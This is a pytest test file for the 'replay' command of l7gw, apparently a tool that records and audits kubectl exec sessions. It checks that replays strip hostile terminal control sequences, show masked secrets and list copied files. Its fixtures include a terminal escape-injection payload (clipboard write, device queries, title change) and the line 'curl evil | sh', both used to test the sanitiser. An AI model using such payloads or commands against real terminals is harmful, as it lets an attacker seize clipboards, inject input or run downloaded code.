"""`l7gw replay` shows execs again, in order. None of their escape sequences reaches the auditor's terminal."""

from __future__ import annotations

import datetime
import io
import os
import pty
import re
import select
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from l7gw.masking.find import Find
from l7gw.recording.recorder import Recorder
from l7gw.recording.session_list import summaries
from tests.support.journals import ANN, PLAIN, TTY, call, cli_run, recorded, shell
from tests.support.manual_clock import ManualClock

ATTACK = b"\x1b]52;c;aGVsbG8=\x07\x1b[6n\x1b[c\x1bP$q\"p\x1b\\\x1b]0;owned\x07\x05"  # fmt: skip


@pytest.fixture
def state(tmp_path: Path) -> Path:
    """A get, a terminal exec that attacks, and one without a terminal."""

    def fill(recorder: Recorder) -> None:
        session = recorder.session(ANN, "prod")
        call(session, "/api/v1/pods").end("complete")
        shell(
            session,
            [("resize", True, b'{"Width":40,"Height":5}'), ("stdout", False, b"$ ls\r\n" + ATTACK + b"\x1b[31mred\x1b[0m\r\n")],
        )
        failed = b'{"status":"Failure","details":{"causes":[{"reason":"ExitCode","message":"3"}]}}'
        shell(
            session, [("stdout", False, b"plain " + ATTACK + b"\n"), ("stderr", False, b"error\n"), ("error", False, failed)], PLAIN
        )

    recorded(tmp_path, fill)
    return tmp_path


@pytest.fixture
def session(state: Path) -> str:
    return summaries(state)[0].id


def test_without_a_terminal_all_text_is_printed_in_order(state: Path, session: str, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = cli_run(capsys, "replay", session, "--state", state)
    assert status == 0
    first, *lines = out.splitlines()
    assert re.fullmatch(
        r"== call 2, \d{4}-\d\d-\d\d \d\d:\d\d:\d\d, ann@example.com on prod, complete: exec -n d web-0 -- sh", first
    )
    assert lines[:2] == ["$ ls", "red"]
    assert re.fullmatch(r"== call 3, .*, exit 3: exec -n d web-0 -- ls", lines[2])
    assert lines[3].startswith("plain ") and lines[4] == "error"
    assert "\x1b" not in out and "\x07" not in out and "\x05" not in out
    assert [line for line in err.splitlines() if "not shown" not in line] == []


def test_replay_of_one_exec_shows_it_alone(state: Path, session: str, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = cli_run(capsys, "replay", f"{session[:20]}/2", "--state", state)
    assert status == 0 and re.fullmatch(r"== call 2, .*: exec -n d web-0 -- sh\n\$ ls\nred\n", out)
    assert err == (
        "-- not shown: 3 control strings that are no text, such as window titles and pictures (24 characters); "
        f"`l7gw export {session}/2 --format jsonl` has everything\n"
    )


def test_text_that_was_erased_or_scrolled_away_is_printed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = "".join(f"line {number}\r\n" for number in range(100)).encode()
    frames = [("resize", True, b'{"Width":0,"Height":0}'), ("stdout", False, b"curl evil | sh\r\x1b[2K$ ls\x1b[?4m\r\n" + lines)]
    recorded(tmp_path, lambda recorder: shell(recorder.session(ANN, "prod"), frames))
    session = summaries(tmp_path)[0].id
    for option in ([], ["--text"], ["--instant"]):
        status, out, err = cli_run(capsys, "replay", session, *option, "--state", tmp_path)
        assert (status, err) == (0, "")
        assert out.splitlines()[1:] == ["curl evil | sh", "$ ls", *(f"line {number}" for number in range(100))]


def test_replay_says_what_was_masked_in_an_exec(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def fill(recorder: Recorder) -> None:
        one = call(recorder.session(ANN, "prod"), PLAIN)
        one.frame("stdout", up=False, stream=1, data=b"pw ******\n")
        one.mask(Find(detector="password", where="stdout:3", length=6, tag=""), up=False)
        one.end("complete")

    recorded(tmp_path, fill)
    status, out, err = cli_run(capsys, "replay", summaries(tmp_path)[0].id, "--state", tmp_path)
    assert status == 0 and out.endswith(": exec -n d web-0 -- ls\npw ******\n")
    assert err == "-- 1 masked, 6 bytes: password in stdout:3\n"


def test_a_recording_that_ends_early_says_why(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def fill(recorder: Recorder) -> None:
        session = recorder.session(ANN, "prod")
        cut, torn = call(session, TTY), call(session, TTY)
        for exchange in (cut, torn):
            exchange.frame("stdout", up=False, stream=1, data=b"hi\r\n")
        cut.end("cut", "the policy changed")

    recorded(tmp_path, fill, close=False)
    session = summaries(tmp_path)[0].id
    for exchange, ended in ((1, "cut (the policy changed)"), (2, "the gateway died in it; more may have been shown")):
        status, out, err = cli_run(capsys, "replay", f"{session}/{exchange}", "--state", tmp_path)
        assert status == 0 and re.fullmatch(rf"== call {exchange}, .*, {re.escape(ended)}: exec -n d web-0 -- sh\nhi\n", out)
        assert err == f"-- call {exchange}: {ended}\n"


def test_on_a_terminal_text_is_asked_for_and_what_is_left_out_is_told(tmp_path: Path) -> None:
    frames = [("stdout", False, b"".join(b"line %d\r\n" % number for number in range(100)))]
    recorded(tmp_path, lambda recorder: shell(recorder.session(ANN, "prod"), frames))
    session = summaries(tmp_path)[0].id
    for option in ([], ["--instant"]):
        _, out, err = on_a_terminal("replay", session, "--state", str(tmp_path), *option)
        assert b"line 99" in out and b"line 1\r" not in out
        assert re.match(rb"-- not shown: \d\d lines of text .*--text prints the lines", err)
    _, out, err = on_a_terminal("replay", session, "--state", str(tmp_path), "--text")
    assert b"line 1\r" in out and b"line 99" in out and err == b""


def test_replay_of_a_call_that_is_no_exec_is_exit_status_1(state: Path, session: str, capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = cli_run(capsys, "replay", f"{session}/1", "--state", state)
    assert (status, out) == (1, "") and f"l7gw export {session}/1 --format jsonl" in err
    assert cli_run(capsys, "replay", "ffff", "--state", state)[0] == 1
    assert cli_run(capsys, "replay", session, "--state", state / "none")[0] == 3
    assert cli_run(capsys, "replay", session, "--speed", "0", "--state", state)[0] == 2


def on_a_terminal(*arguments: str) -> tuple[int, bytes, bytes]:
    """Run `l7gw` with a pty for stdin and stdout. Returns its exit status, what it wrote, and stderr."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "l7gw", *arguments], stdin=theirs, stdout=theirs, stderr=subprocess.PIPE,
        env={**os.environ, "TERM": "xterm", "LINES": "24", "COLUMNS": "80"},
    )  # fmt: skip
    os.close(theirs)
    out = b""
    while True:
        ready, _, _ = select.select([ours], [], [], 30)
        try:
            data = os.read(ours, 65536) if ready else b""
        except OSError:  # EIO: the other side is closed
            data = b""
        if not data:
            break
        out += data
    os.close(ours)
    _, err = process.communicate()
    return process.returncode, out, err


@pytest.mark.parametrize("instant", [[], ["--instant"]], ids=["moving", "instant"])
def test_replay_on_a_terminal_writes_cells_and_colours_only(state: Path, session: str, instant: list[str]) -> None:
    status, out, _ = on_a_terminal("replay", session, "--state", str(state), *instant)
    assert status == 0
    assert b"\x1b[31mred\x1b[0m" in out and b"$ ls" in out and b"error" in out
    sequences = set(re.findall(rb"\x1b(?:\[[0-9;?]*[a-zA-Z]|.)", out))
    assert all(re.fullmatch(rb"\x1b\[(?:[0-9;]*m|[0-9]+;1H|K|2J|H|\?(?:7|25)[lh])", one) for one in sequences), sequences
    assert not set(out) & set(b"\x05\x07\x9b\x9d")


def test_text_that_matches_is_printed_with_its_time_below_the_title_of_its_exec(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    clock = ManualClock()

    def fill(recorder: Recorder) -> None:
        session = recorder.session(ANN, "prod")
        shell(session, [("stdout", False, b"nothing\r\n")])
        one = call(session, TTY)
        for piece in (b"$ rm", b" -rf x\r\n", b"$ ls\r\n", b"== rm -rf\r\n"):
            clock.advance(60)
            one.frame("stdout", up=False, stream=1, data=piece)
        one.end("complete")
        shell(session, [("stdout", False, b"rm \x1b[1m-rf\n")], PLAIN)

    recorded(tmp_path, fill, clock=clock)
    session = summaries(tmp_path)[0].id
    status, out, err = cli_run(capsys, "replay", session, "--search", "rm -rf", "--state", tmp_path)
    titles = [line for line in out.splitlines() if line.startswith("== ")]
    lines = [
        re.fullmatch(r"(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3})  (.*)", line) for line in out.splitlines() if line not in titles
    ]
    assert (status, err) == (0, "") and [title.split(",")[0] for title in titles] == ["== call 2", "== call 3"]
    assert [line[2] for line in lines if line] == ["$ rm -rf x", "\\u003d= rm -rf", "rm \\u001b[1m-rf"]
    first, second = (datetime.datetime.fromisoformat(line[1]) for line in lines[:2] if line)
    assert second - first == datetime.timedelta(seconds=120)
    assert cli_run(capsys, "replay", session, "--search", "zzz", "--state", tmp_path)[:2] == (1, "")
    assert "missing )" in cli_run(capsys, "replay", session, "--search", "a(b", "--state", tmp_path)[2]


def test_of_a_copy_the_files_are_listed_in_both_directions(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        info = tarfile.TarInfo("conf/app\x1b.bin")
        info.size = 1500
        tar.addfile(info, io.BytesIO(bytes(range(250)) * 6))
    data = archive.getvalue()

    def fill(recorder: Recorder) -> None:
        session = recorder.session(ANN, "prod")
        up = "/api/v1/namespaces/d/pods/web-0/exec?command=tar&command=-xmf&command=-&command=-C&command=%2Fetc&stdin=true&stderr=true"
        shell(session, [("stdin", True, data[:700]), ("stderr", False, b"tar: oh\n"), ("stdin", True, data[700:])], up)
        down = "/api/v1/namespaces/d/pods/web-0/exec?command=sh&command=-c&command=tar%20cf%20-%20x&stdout=true&stderr=true"
        shell(session, [("stdout", False, data[:1000])], down)
        shell(session, [("stdout", False, data[:1000])], PLAIN)  # no tar ran there

    recorded(tmp_path, fill)
    session = summaries(tmp_path)[0].id
    status, out, err = cli_run(capsys, "replay", f"{session}/1", "--state", tmp_path)
    assert status == 0 and out.splitlines()[1:] == [
        "== to the pod: 1,500 bytes  conf/app\\u001b.bin", "tar: oh", "== to the pod: 1 file, 1,500 bytes; the archive is whole",
    ]  # fmt: skip
    assert "-- not shown: the content of files that were copied (1,500 bytes); `l7gw grep` searches them" in err
    out = cli_run(capsys, "replay", f"{session}/2", "--state", tmp_path)[1]
    assert out.splitlines()[2].startswith(
        "== from the pod: 1 file, 1,500 bytes; the archive is torn after 1,000 bytes: it breaks off in the middle of conf"
    )
    assert "\\u0001" in cli_run(capsys, "replay", f"{session}/3", "--state", tmp_path)[1]
